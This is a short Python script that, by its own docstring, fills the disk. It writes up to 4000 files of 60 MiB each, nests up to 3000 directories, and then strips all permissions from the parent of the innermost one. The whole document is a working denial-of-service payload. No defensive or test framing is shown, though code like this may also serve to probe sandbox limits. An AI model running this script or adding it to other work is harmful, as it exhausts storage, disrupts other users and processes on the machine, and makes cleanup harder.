"""Fills the disk, with folders that are deep and closed."""
import os

block = bytes(1 << 20)
for number in range(4000):
    try:
        with open(f"file-{number}", "wb", 0) as file:
            for _ in range(60):
                file.write(block)
    except OSError:
        break
for _ in range(3000):
    try:
        os.mkdir("deep")
        os.chdir("deep")
    except OSError:
        break
os.chmod("..", 0)
